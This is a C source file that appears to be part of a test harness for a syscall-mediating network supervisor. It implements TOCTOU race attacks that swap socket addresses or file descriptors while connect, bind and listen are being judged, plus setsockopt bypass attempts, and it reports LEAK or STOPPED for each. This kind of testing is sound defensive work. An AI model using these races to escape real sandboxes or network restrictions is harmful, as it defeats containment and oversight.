/*
 * Against a supervisor that judges connect, bind and listen while they wait: what it looked at
 * is changed under its eyes, and what it let through is led elsewhere. Arguments: ALLOWED is a
 * port of 127.0.0.1 that may be connected to, PORT one that may not, PATH a socket that may not.
 */
#include "attack.h"

#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>

static volatile int ended, flips;

union address {
	struct sockaddr any;
	struct sockaddr_in in;
	struct sockaddr_un un;
};

static struct sockaddr_in
loopback(const char *port)
{
	struct sockaddr_in address = { .sin_family = AF_INET };

	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	address.sin_port = htons((uint16_t)atoi(port));
	return address;
}

static int
peer_port(int fd)
{
	struct sockaddr_in peer;
	socklen_t size = sizeof(peer);

	return getpeername(fd, (struct sockaddr *)&peer, &size) == 0 ? ntohs(peer.sin_port) : 0;
}

static int
listens(int fd)
{
	int yes = 0;
	socklen_t size = sizeof(yes);

	getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &yes, &size);
	return yes;
}

static union address shared, first, second;

/* Whole addresses of 16 bytes: two stores each, as close as a thread can get. */
static void *
flip_address(void *unused)
{
	while (!ended) {
		memcpy(&shared, &first, sizeof(struct sockaddr_in));
		__sync_synchronize();
		memcpy(&shared, &second, sizeof(struct sockaddr_in));
		__sync_synchronize();
	}
	return unused;
}

/* ALLOWED PORT COUNT */
static int
race_address(char **arguments)
{
	int allowed = atoi(arguments[0]), count = atoi(arguments[2]), connected = 0, port;
	pthread_t thread;

	first.in = loopback(arguments[0]);
	second.in = loopback(arguments[1]);
	shared = first;
	pthread_create(&thread, NULL, flip_address, NULL);
	while (count-- > 0) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		struct linger reset = { 1, 0 }; /* no TIME_WAIT: ports would run out */

		setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
		connect(fd, &shared.any, sizeof(struct sockaddr_in));
		port = peer_port(fd);
		connected += port == allowed;
		close(fd);
		if (port != 0 && port != allowed)
			return LEAK;
	}
	ended = 1;
	pthread_join(thread, NULL);
	errno = connected ? ECONNREFUSED : ENODATA; /* a race that was never won on either side proves nothing */
	return STOPPED;
}

static int swapped_fd, one_fd, other_fd;

static void *
flip_socket(void *unused)
{
	while (!ended) {
		dup2(one_fd, swapped_fd);
		if (!ended)
			dup2(other_fd, swapped_fd);
		flips++;
	}
	return unused;
}

/* ALLOWED PATH COUNT: sockets of two families and addresses of both, at any moment another pair. */
static int
race_socket(char **arguments)
{
	int allowed = atoi(arguments[0]), count = atoi(arguments[2]), connected = 0, leaks = 0;

	first.in = loopback(arguments[0]);
	second.un.sun_family = AF_UNIX;
	strncpy(second.un.sun_path, arguments[1], sizeof(second.un.sun_path) - 1);
	swapped_fd = dup(0);
	while (count > 0 && !leaks) {
		struct linger reset = { 1, 0 };
		pthread_t thread;
		int i;

		one_fd = socket(AF_INET, SOCK_STREAM, 0);
		other_fd = socket(AF_UNIX, SOCK_STREAM, 0);
		setsockopt(one_fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
		ended = flips = 0;
		pthread_create(&thread, NULL, flip_socket, NULL);
		while (flips == 0)
			;
		for (i = 0; i < 100; i++, count--) {
			union address *address = i & 1 ? &first : &second;

			connect(swapped_fd, &address->any, i & 1 ? sizeof(address->in) : sizeof(address->un));
		}
		ended = 1;
		pthread_join(thread, NULL);
		connected += peer_port(one_fd) == allowed;
		leaks += peer_port(one_fd) != 0 && peer_port(one_fd) != allowed;
		leaks += peer_port(other_fd) != 0 || send(other_fd, "x", 1, MSG_NOSIGNAL) == 1;
		close(one_fd);
		close(other_fd);
	}
	errno = connected ? EACCES : ENODATA;
	return leaks ? LEAK : STOPPED;
}

/* LISTEN COUNT: two sockets, of which only the one that is bound to LISTEN may listen. */
static int
race_listen(char **arguments)
{
	struct sockaddr_in address = loopback(arguments[0]);
	int count = atoi(arguments[1]), yes = 1;
	pthread_t thread;

	one_fd = socket(AF_INET, SOCK_STREAM, 0);
	other_fd = socket(AF_INET, SOCK_STREAM, 0);
	swapped_fd = dup(0);
	setsockopt(one_fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));
	if (bind(one_fd, (struct sockaddr *)&address, sizeof(address)) < 0)
		return STOPPED;
	pthread_create(&thread, NULL, flip_socket, NULL);
	while (flips == 0)
		;
	while (count-- > 0 && !listens(other_fd))
		listen(swapped_fd, 5);
	ended = 1;
	pthread_join(thread, NULL);
	if (listens(other_fd))
		return LEAK;
	errno = listens(one_fd) ? EACCES : ENODATA;
	return STOPPED;
}

/* PATH COUNT: a bind that is let through for PATH, on whatever the descriptor is by then. */
static int
race_bind(char **arguments)
{
	int count = atoi(arguments[1]), bound = 0, listening = 0;
	struct sockaddr_in any = { .sin_family = AF_INET };

	first.un.sun_family = AF_UNIX;
	strncpy(first.un.sun_path, arguments[0], sizeof(first.un.sun_path) - 1);
	second.in = any;
	swapped_fd = dup(0);
	while (count > 0 && !listening) {
		struct sockaddr_in name;
		socklen_t size = sizeof(name);
		pthread_t sockets, addresses;
		int i;

		one_fd = socket(AF_UNIX, SOCK_STREAM, 0);
		other_fd = socket(AF_INET, SOCK_STREAM, 0);
		shared = first;
		ended = flips = 0;
		pthread_create(&sockets, NULL, flip_socket, NULL);
		pthread_create(&addresses, NULL, flip_address, NULL);
		while (flips == 0)
			;
		for (i = 0; i < 100; i++, count--) {
			bind(swapped_fd, &shared.any, sizeof(struct sockaddr_un));
			unlink(arguments[0]);
		}
		ended = 1;
		pthread_join(sockets, NULL);
		pthread_join(addresses, NULL);
		if (getsockname(other_fd, (struct sockaddr *)&name, &size) == 0 && name.sin_port != 0)
			bound++;
		listen(other_fd, 5);
		listening = listens(other_fd);
		close(one_fd);
		close(other_fd);
	}
	printf("bound %d\n", bound);
	errno = EACCES;
	return listening ? LEAK : STOPPED;
}

static int
set_option(int level, int option, const void *value, socklen_t size)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	return setsockopt(fd, level, option, value, size) == 0 ? LEAK : STOPPED;
}

static int
bind_to_device(char **arguments)
{
	(void)arguments;
	return set_option(SOL_SOCKET, SO_BINDTODEVICE, "lo", 3);
}

static int
source_route(char **arguments)
{
	/* Loose: by way of 192.0.2.1, which is where the SYN would go. */
	static const unsigned char route[] = { 131, 7, 4, 192, 0, 2, 1, 0 };

	(void)arguments;
	return set_option(IPPROTO_IP, 4 /* IP_OPTIONS */, route, sizeof(route));
}

const struct attack mediated_attacks[] = {
	{ "race_address", race_address },
	{ "race_socket", race_socket },
	{ "race_listen", race_listen },
	{ "race_bind", race_bind },
	{ "bind_to_device", bind_to_device },
	{ "source_route", source_route },
	{ NULL, NULL },
};
